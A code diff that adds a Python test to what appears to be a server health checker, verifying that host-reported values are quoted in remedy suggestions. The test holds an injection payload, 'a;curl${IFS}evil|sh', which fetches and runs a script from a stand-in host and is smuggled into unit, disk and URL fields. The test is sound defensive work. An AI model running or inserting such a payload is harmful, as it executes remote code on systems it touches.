@@ -328,3 +328,15 @@ def test_messages_that_could_not_be_sent_are_a_problem() -> None:
     assert "nas: the run failed" in found.found
     assert "operations.kometa.notify" in found.mend
     assert check("messages", looked({}, telling, waiting_messages=fresh.encode())).state is State.OK
+
+
+def test_what_a_host_says_is_no_command_in_a_remedy() -> None:
+    evil = "a;curl${IFS}evil|sh"
+    for name, values in (
+        ("failed units", {"failed-units": f"{evil} loaded failed"}),
+        ("disk", {"disks": f"/dev/sda 9 9 9 99% /{evil}"}),
+        ("plex", {"plex": json.dumps({"url": f"http://{evil}.x", "identity": "refused"})}),
+    ):
+        told_bytes = {key: value.encode() for key, value in values.items()}
+        found = check(name, Host(Settings(), Look(Observed(told_bytes)), NOW))
+        assert f"'{evil}" in found.mend or f"'/{evil}" in found.mend or f"'http://{evil}" in found.mend
